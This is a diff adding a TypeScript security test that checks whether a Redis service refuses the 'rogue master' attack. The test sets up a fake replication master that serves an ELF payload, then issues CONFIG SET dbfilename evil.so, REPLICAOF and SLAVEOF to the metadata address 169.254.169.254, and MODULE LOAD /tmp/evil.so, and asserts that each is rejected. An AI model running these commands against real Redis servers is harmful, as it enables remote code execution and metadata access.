@@ -1,0 +1,29 @@
+import assert from 'node:assert/strict'
+import { json } from '../pods/pod-test.ts'
+import { asksRedis, serviceAttack } from '../pods/service-test.ts'
+
+// A “rogue master” hands a replica a file of its choice, which the replica keeps under a name of its choice: a module, say.
+serviceAttack('Redis that is made a replica keeps no file of its master’s', 'redis', async ({ run }) => {
+  const outcome = await run(
+    asksRedis(`
+      import { createServer } from 'node:net'
+      const heard = []
+      createServer((socket) => socket.on('error', () => {}).on('data', (bytes) => {
+        const said = String(bytes)
+        heard.push(...['PING', 'REPLCONF', 'PSYNC'].filter((word) => said.includes(word)))
+        if (said.includes('PING')) socket.write('+PONG\\r\\n')
+        else if (said.includes('REPLCONF')) socket.write('+OK\\r\\n'.repeat(said.split('REPLCONF').length - 1))
+        else if (said.includes('SYNC')) socket.write('+FULLRESYNC ' + 'a'.repeat(40) + ' 1\\r\\n$4\\r\\n\\x7fELF\\r\\n')
+      })).listen(7000, '127.0.0.1')
+      const names = await ask('CONFIG', 'SET', 'dbfilename', 'evil.so')
+      const follows = await ask('REPLICAOF', '127.0.0.1', '7000')
+      const abroad = await ask('SLAVEOF', '169.254.169.254', '80')
+      await ask('REPLICAOF', '127.0.0.1', '7000')
+      for (const end = Date.now() + 4000; !heard.includes('PSYNC') && Date.now() < end; ) await new Promise((resolve) => setTimeout(resolve, 50))
+      console.log(JSON.stringify({ names, follows, loads: await ask('MODULE', 'LOAD', '/tmp/evil.so'), link: (await ask('INFO', 'replication')).match(/master_link_status:(\\w+)/)?.[1], size: await ask('DBSIZE') }))`),
+  )
+  const { names, loads, link } = json(outcome) as Record<string, string> // Our own program printed it, just above.
+  assert.match(names ?? '', /^! /)
+  assert.match(loads ?? '', /^! /)
+  assert.notEqual(link, 'up')
+})
